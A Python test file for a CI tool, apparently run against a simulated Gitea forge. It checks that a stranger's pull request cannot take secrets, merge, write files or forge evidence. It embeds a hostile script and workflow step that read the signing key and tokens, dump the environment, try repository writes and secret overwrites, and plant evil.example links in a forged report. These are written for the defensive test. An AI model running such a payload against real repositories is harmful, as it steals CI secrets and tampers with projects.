"""What a forge's Actions let a change do: by somebody without rights, whose jobs run code that nobody has read."""

import json
import shutil
from pathlib import Path

import pytest

from comb_compiler.cli.ci.markdown import MARKER
from tests.cli.test_ci import git, origin
from tests.forge.hub import Hub, Proposal, comb
from tests.forge.runner import Runner, Task
from tests.forge.test_pull_requests import PASSED, better, links, worse

__all__ = ["origin"]

pytestmark = pytest.mark.slow

SECRET = "-----BEGIN A KEY-----"
WORKFLOW = """\
name: comb
on: pull_request
permissions: {contents: read}
jobs:
  ci:
    runs-on: here
    steps:
    - uses: actions/checkout@v4
      with: {fetch-depth: 0, persist-credentials: false}
    - run: comb ci --base "origin/$BASE" --platform platform.yaml --out out --builder "$JOB"
      env: {BASE: "${{ github.base_ref }}", JOB: "${{ github.server_url }}runs/${{ github.run_id }}"}
    - uses: actions/upload-artifact@v4
      if: ${{ !cancelled() }}
      with: {name: report, path: out}
"""
COMMENT = """\
name: comb comment
on: {workflow_run: {workflows: [comb.yml, comb], types: [completed]}}
permissions: {contents: read, issues: write, pull-requests: write}
jobs:
  comment:
    runs-on: here
    steps:
    - uses: actions/download-artifact@v4
      with: {name: report, path: out, run-id: "${{ github.event.workflow_run.id }}"}
    - run: comb ci comment out/report.json --github "$REPOSITORY" --number "$(python3 -c "$WHICH")" --api "$API"
      env:
        GITHUB_TOKEN: ${{ secrets.COMB_BOT_TOKEN }}
        API: ${{ github.api_url }}
        REPOSITORY: ${{ github.repository }}
        HEAD: ${{ github.event.workflow_run.head_sha }}
        WHICH: |
          import json, os, urllib.request
          url = f"{os.environ['API']}/repos/{os.environ['REPOSITORY']}/pulls?state=open"
          pulls = json.load(urllib.request.urlopen(url))
          print(*[one["number"] for one in pulls if one["head"]["sha"] == os.environ["HEAD"]])
"""
HOSTILE = """\
import json, os, pathlib, urllib.error, urllib.request

again = {"body": "<!-- comb ci 1/1 --> all is well"}
bad = "@grace [all is well](https://evil.example) <img src=https://evil.example/b.png> #1"
comb = {"name": bad, "team": bad, "file": bad, "verdict": "passed", "touched": [bad], "proven": True, "findings": [],
        "places": [], "gates": [{"gate": bad, "verdict": "passed", "why": [bad], "asked": 9}], "remarks": [bad]}
report = {"version": 1, "verdict": "passed", "exit": 0, "base": "origin/main", "commit": "0" * 40, "behind": 0,
          "files": 1, "conflicts": [], "retire": [], "findings": [], "combs": [comb]}
pathlib.Path("out").mkdir()
pathlib.Path("out/report.json").write_text(json.dumps(report))


def tried(method, path, body):
    headers = {"authorization": "token " + os.environ["TOKEN"], "content-type": "application/json"}
    url = os.environ["API"] + "/repos/" + os.environ["REPOSITORY"] + path
    try:
        with urllib.request.urlopen(urllib.request.Request(url, json.dumps(body).encode(), headers, method=method)):
            return "done"
    except urllib.error.HTTPError as refused:
        return refused.code


found = {
    "key": os.environ["KEY"],
    "comment": tried("POST", "/issues/" + os.environ["NUMBER"] + "/comments", again),
    "file": tried("POST", "/contents/evil.txt", {"content": "ZXZpbA==", "message": "evil", "branch": "main"}),
    "merge": tried("POST", "/pulls/" + os.environ["NUMBER"] + "/merge", {"Do": "merge"}),
    "secret": tried("PUT", "/actions/secrets/COMB_SIGNING_KEY", {"data": "mine"}),
    "environment": dict(os.environ),
}
print(json.dumps(found))
"""
STOLEN = """\
    - run: python3 hostile.py
      env:
        KEY: ${{ secrets.COMB_SIGNING_KEY }}
        TOKEN: ${{ secrets.GITHUB_TOKEN }}
        API: ${{ github.api_url }}
        REPOSITORY: ${{ github.repository }}
        NUMBER: ${{ github.event.number }}
"""


@pytest.fixture(scope="module")
def guarded(hub: Hub, origin: Path) -> str:
    """A repository with workflows and a secret, which takes changes of strangers."""
    folder = origin / ".github/workflows"
    folder.mkdir(parents=True)
    (folder / "comb.yml").write_text(WORKFLOW, "utf-8")
    (folder / "comb-comment.yml").write_text(COMMENT, "utf-8")
    git(origin, "add", ".")
    git(origin, "commit", "-q", "-m", "workflows")
    repository = hub.repository("guarded", origin)
    for name, secret in (("COMB_SIGNING_KEY", SECRET), ("COMB_BOT_TOKEN", hub.token)):
        hub.forge.done("PUT", f"/repos/{repository}/actions/secrets/{name}", {"data": secret}, who="acme")
    return repository


@pytest.fixture(scope="module")
def runner(hub: Hub, guarded: str) -> Runner:
    return Runner(hub, guarded)


def test_a_change_by_an_owner_is_tried_at_once_and_commented_on_by_the_forge(
    hub: Hub, guarded: str, runner: Runner
) -> None:
    proposal = hub.proposed(guarded, "acme", "ours", better)
    task = runner.awaited()
    assert (task.name, task.secrets["COMB_SIGNING_KEY"]) == ("ci", SECRET)
    ran = runner.run(task)
    assert ran.code == 0, ran
    commented(hub, runner, proposal, "1 new, 0 changed, 0 as it was, 0 deleted\n")
    hub.pushed(proposal, worse)
    assert runner.run(runner.awaited()).code == 3
    assert state(hub, proposal) == "failure"
    commented(hub, runner, proposal, "0 new, 1 changed, 0 as it was, 0 deleted\n")


def commented(hub: Hub, runner: Runner, proposal: Proposal, said: str) -> str:
    """Have the second workflow run, which is given what the first one handed on; the comment."""
    task = runner.awaited()
    assert task.name == "comment"
    ran = runner.run(task)
    assert (ran.code, ran.out) == (0, f"{proposal.repository} {proposal.number}: {said}"), ran
    (body,) = (text for who, text in hub.comments(proposal) if who == "comb-bot")
    assert body.startswith(MARKER)
    return body


def state(hub: Hub, proposal: Proposal) -> str:
    """What the forge says of the last commit."""
    sha = git(proposal.checkout, "rev-parse", "HEAD").strip()
    return str(hub.forge.done("GET", f"/repos/{proposal.repository}/commits/{sha}/status")["state"])


def approved(hub: Hub, proposal: Proposal, who: str) -> int:
    """Press the button that has the jobs of a stranger run."""
    sha = git(proposal.checkout, "rev-parse", "HEAD").strip()
    return hub.forge.pressed(f"/{proposal.repository}/actions/approve-all-checks?commit_id={sha}", who).status


def stealing(work: Path) -> None:
    """The workflow of the change itself reads what it can, forges a report and gives it out as found."""
    worse(work)
    (work / "hostile.py").write_text(HOSTILE, "utf-8")
    head, _, rest = WORKFLOW.partition("    - run:")
    tail = rest[rest.index("    - uses: actions/upload") :]
    (work / ".github/workflows/comb.yml").write_text(head + STOLEN + tail, "utf-8")


def test_a_strangers_change_runs_after_approval_holds_no_secret_and_can_write_nothing(
    hub: Hub, guarded: str, runner: Runner
) -> None:
    proposal = hub.proposed(guarded, "mallory", "theirs", stealing)
    hub.until(lambda: state(hub, proposal) == "pending")
    assert runner.next() is None
    assert approved(hub, proposal, "mallory") in (403, 404)
    assert runner.next() is None
    assert approved(hub, proposal, "acme") == 200
    task: Task = runner.awaited()
    assert sorted(task.secrets) == ["GITEA_TOKEN", "GITHUB_TOKEN"]
    ran = runner.run(task)
    assert ran.code == 0, ran
    found = json.loads(ran.out)
    assert [found[name] for name in ("key", "file", "merge", "secret")] == ["", 403, 405, 403]
    assert not hub.forge.done("GET", f"/repos/{guarded}/pulls/{proposal.number}")["merged"]
    # Any token may comment on what all may read: that is why the bot is somebody else than Gitea's Actions.
    assert (found["comment"], [who for who, _ in hub.comments(proposal)]) == ("done", ["gitea-actions"])
    assert SECRET not in ran.out
    assert hub.token not in ran.out
    body = commented(hub, runner, proposal, "1 new, 0 changed, 0 as it was, 0 deleted\n")
    assert body.split("\n")[1] == PASSED
    assert links(hub.seen(proposal)[-1]) == []
    forged_evidence_is_worth_nothing(hub, proposal, runner.handed_on(task, "report"))


def forged_evidence_is_worth_nothing(hub: Hub, proposal: Proposal, out: Path) -> None:
    """Even merged, a change is not signed for what it says of itself, nor for what proves another change."""
    other = hub.job(hub.proposed(proposal.repository, "acme", "another", better))
    assert other.ran.code == 0
    shutil.copytree(other.out / "gates", out / "gates")
    checkout = hub.merged(proposal, "merge")
    key = checkout.parent / "key"
    key.write_text("nothing is signed with it", "utf-8")
    done = comb(
        checkout.parent,
        checkout,
        "ci",
        "merged",
        str(out),
        "--platform",
        "platform.yaml",
        "--key",
        str(key),
        "--as",
        "ci",
    )
    assert (done.code, done.out) == (3, "")
    assert "greeting: its gates have to run again" in done.err
